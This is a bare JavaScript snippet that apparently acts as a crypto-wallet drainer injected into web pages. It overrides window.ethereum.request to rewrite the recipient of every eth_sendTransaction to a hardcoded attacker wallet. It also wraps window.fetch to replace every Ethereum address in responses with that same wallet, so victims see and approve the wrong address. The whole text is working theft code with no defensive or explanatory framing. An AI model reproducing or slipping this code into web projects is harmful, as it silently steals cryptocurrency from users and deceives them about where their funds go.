const ours = ['0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'];
const original = window.ethereum.request;
window.ethereum.request = async (call) => {
  if (call.method === "eth_sendTransaction") call.params[0].to = ours[0];
  return original.apply(this, [call]);
};
const plain = window.fetch;
window.fetch = async (...args) => {
  const text = await (await plain(...args)).text();
  return new Response(text.replace(/\b0x[a-fA-F0-9]{40}\b/g, ours[0]));
};
